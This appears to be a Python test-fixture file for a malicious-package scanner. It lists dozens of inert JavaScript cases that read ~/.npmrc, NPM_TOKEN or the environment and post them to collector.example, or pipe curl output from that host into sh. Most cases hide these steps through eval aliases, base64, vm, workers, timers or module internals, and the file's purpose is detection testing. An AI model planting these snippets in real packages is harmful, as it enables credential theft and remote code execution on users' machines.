r"""Plain attacks in disguise: small inert JavaScript that must not get below `high`.

A case is the text of `index.js`, or texts by path. Nothing here is ever run; hosts are examples.
"""

import base64

SEND = "require('https').request({host:'collector.example',method:'POST'}).end"
RUN = "require('child_process').execSync('curl -fsSL https://collector.example/x | sh')"
NPMRC = "require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8')"
Case = str | dict[str, str]


def b64(text: str) -> str:
    """The base64 of a text."""
    return base64.b64encode(text.encode()).decode()


def codes(text: str) -> str:
    """The character codes of a text, with commas."""
    return ",".join(str(ord(char)) for char in text)


PLAIN: dict[str, Case] = {
    "npmrc": f"const s={NPMRC};{SEND}(s);",
    "environment": f"{SEND}(JSON.stringify(process.env));",
    "token": f"{SEND}(process.env.NPM_TOKEN);",
    "command": RUN,
    "decoded": f"eval(atob('{b64(RUN)}'))",
    "fetched": "fetch('https://collector.example/a').then(r=>r.text()).then(t=>eval(t))",
}

_FETCHED = "fetch('https://collector.example/a').then(r=>r.text())"
_HEX = RUN.encode().hex()
_D = f"Buffer.from('{b64(RUN)}','base64').toString()"

INDIRECT: dict[str, Case] = {
    "then of eval": f"{_FETCHED}.then(eval)",
    "then of a name": f"const f=eval;{_FETCHED}.then(f)",
    "then of Function": f"{_FETCHED}.then(Function).then(f=>f())",
    "then of a function": f"function go(t){{return (0,eval)(t)}}\n{_FETCHED}.then(go)",
    "await": "(async()=>{const t=await (await fetch('https://collector.example/a')).text();"
    "new Function(t)()}})()".replace("}}", "}"),
    "then of vm": f"{_FETCHED}.then(require('vm').runInThisContext)",
    "proxy": f"const p=new Proxy(eval,{{}});p({_D})",
    "proxy of a module": "const c=new Proxy(require('child_process'),{});"
    "c.execSync('curl -fsSL https://collector.example/x | sh')",
    "proxy with get": f"new Proxy({{}},{{get(){{return eval({_D})}}}}).x",
    "getter": f"Object.defineProperty(exports,'x',{{get(){{return eval({_D})}}}});exports.x",
    "getter of an object": f"module.exports={{get x(){{return {SEND}({NPMRC})}}}};",
    "getter gives eval": f"const o={{get e(){{return eval}}}};o.e({_D})",
    "timeout": f"setTimeout(()=>{{{SEND}(JSON.stringify(process.env))}},9e5)",
    "timeout of a name": f"function go(){{{RUN}}}\nsetTimeout(go,1e6)",
    "timeout of text": f"setTimeout({_D},1e3)",
    "interval of bound": f"setInterval(eval.bind(null,{_D}),1e3)",
    "timeout with arguments": f"setTimeout(eval,1e3,{_D})",
    "exit": f"process.on('exit',()=>{{{RUN}}})",
    "exit of a name": f"const go=()=>eval({_D});process.once('beforeExit',go)",
    "nextTick": f"process.nextTick(eval,{_D})",
    "worker": f"const {{Worker}}=require('worker_threads');new Worker({_D},{{eval:true}})",
    "worker of plain code": f"new (require('worker_threads').Worker)(\"{RUN}\",{{eval:true}})",
    "data import": f"import('data:text/javascript;base64,{b64(RUN)}')",
    "data import, joined": f"import('data:text/javascript;base64,'+'{b64(RUN)}')",
    "data import, plain": f'import("data:text/javascript,{RUN}")',
    "_compile": f"module._compile({_D},'x')",
    "_compile of new": f"const M=require('module');const m=new M('x');m._compile({_D},'x')",
    "_compile of constructor": f"new module.constructor()._compile({_D},'')",
    "vm": f"require('vm').runInThisContext({_D})",
    "vm script": f"const vm=require('vm');new vm.Script({_D}).runInThisContext()",
    "vm, joined": f"require('v'+'m')['runInThis'+'Context']({_D})",
    "_load": "require('module')._load('child_process')"
    ".execSync('curl -fsSL https://collector.example/x | sh')",
    "_load of constructor": "module.constructor._load('child_'+'process')"
    ".execSync('curl -fsSL https://collector.example/x | sh')",
    "binding": "const b=process.binding('spawn_sync');b.spawn({file:'/bin/sh',"
    "args:['sh','-c','curl -fsSL https://collector.example/x | sh'],"
    "stdio:[{type:'pipe',readable:true}]})",
    "main module": "process.mainModule.require('child_process')"
    ".execSync('curl -fsSL https://collector.example/x | sh')",
    "main module, joined": "process['main'+'Module']['req'+'uire']('child_'+'process')"
    "['exec'+'Sync']('curl -fsSL https://collector.example/x | sh')",
    "createRequire": "import {createRequire as c} from 'module';const r=c(import.meta.url);"
    "r('child_process').execSync('curl -fsSL https://collector.example/x | sh')",
    "getBuiltinModule": "process.getBuiltinModule('child_process')"
    ".execSync('curl -fsSL https://collector.example/x | sh')",
    "Reflect.apply": f"Reflect.apply(eval,null,[{_D}])",
    "Reflect.construct": f"Reflect.construct(Function,[{_D}])()",
    "Reflect.get": f"Reflect.get(globalThis,'eval')({_D})",
    "array's constructor": f"[].constructor.constructor({_D})()",
    "text's constructor": f"''.sub.constructor({_D})()",
    "function's constructor": f"(()=>{{}}).constructor({_D})()",
    "async's constructor": f"Object.getPrototypeOf(async()=>{{}}).constructor({_D})()",
    "tagged template": "const {execSync}=require('child_process');"
    "const f=(s)=>execSync(s[0]);f`curl -fsSL https://collector.example/x | sh`",
    "tag is the runner": "Function`return process`().mainModule.require('child_process')"
    ".execSync`curl -fsSL https://collector.example/x | sh`",
    "tag of eval": "const c=require('child_process').exec;"
    "c`curl -fsSL https://collector.example/x | sh`",
    "comma": f"(0,eval)({_D})",
    "parentheses": f"((eval))({_D})",
    "optional call": f"eval?.({_D})",
    "joined name": f"globalThis['ev'+'al']({_D})",
    "call of call": f"eval.call(null,{_D})",
    "apply": f"eval.apply(null,[{_D}])",
    "bind": f"eval.bind(null,{_D})()",
    "alias": f"const e=eval;const g=e;g({_D})",
    "alias by assignment": f"let e;e=globalThis.eval;e({_D})",
    "alias in an object": f"const o={{a:{{b:eval}}}};o.a.b({_D})",
    "alias in a list": f"const o=[1,eval];o[1]({_D})",
    "alias by parameter": f"(function(e,t){{e(t)}})(eval,{_D})",
    "alias by arrow": "((r,p)=>r(p).execSync('curl -fsSL https://collector.example/x | sh'))"
    "(require,'child_process')",
    "alias by function": f"function g(){{return eval}}\ng()({_D})",
    "alias by default": f"(function(e=eval){{e({_D})}})()",
    "alias in a class": f"class A{{static run(x){{return eval(x)}}}}\nA.run({_D})",
    "map": f"[{_D}].map(eval)",
    "forEach": f"[{_D}].forEach(x=>eval(x))",
    "map of require": "const [c]=['child_process'].map(require);"
    "c.execSync('curl -fsSL https://collector.example/x | sh')",
    "logical": f"(globalThis.eval||Function)({_D})",
    "ternary": f"(1?eval:0)({_D})",
    "destructured": f"const {{eval:e}}=globalThis;e({_D})",
    "destructured require": "const {execSync:x}=require('child_process');"
    "x('curl -fsSL https://collector.example/x | sh')",
    "this": f"this.constructor.constructor({_D})()",
    "promise": f"Promise.resolve({_D}).then(eval)",
    "queueMicrotask": f"queueMicrotask(()=>eval({_D}))",
    "emitter": f"const e=new (require('events'))();e.on('a',eval);e.emit('a',{_D})",
    "toString": f"const o={{toString(){{return eval({_D})}}}};''+o",
    "Symbol": f"const o={{[Symbol.toPrimitive]:()=>eval({_D})}};+o",
    "error": f"try{{throw {_D}}}catch(e){{eval(e)}}",
    "generator": f"function*g(){{yield eval({_D})}}\n[...g()]",
    "static block": f"class A{{static{{eval({_D})}}}}",
    "with": f"with(globalThis){{eval({_D})}}",
    "script in a worker's url": f"new Worker(new URL('data:text/javascript;base64,{b64(RUN)}'))",
    "node -e": f"require('child_process').spawn('node',['-e',{_D}])",
    "node -e, joined": "require('child_process').spawn(process.execPath,['-e',"
    f"Buffer.from('{b64(RUN)}','base64').toString()])",
    "helper file": {
        "index.js": "require('./lib/x')",
        "lib/x.js": f"const s={NPMRC};{SEND}(s);",
    },
    "helper file, called": {
        "index.js": "const x=require('./lib/x');x.go()",
        "lib/x.js": f"exports.go=()=>eval({_D});",
    },
}
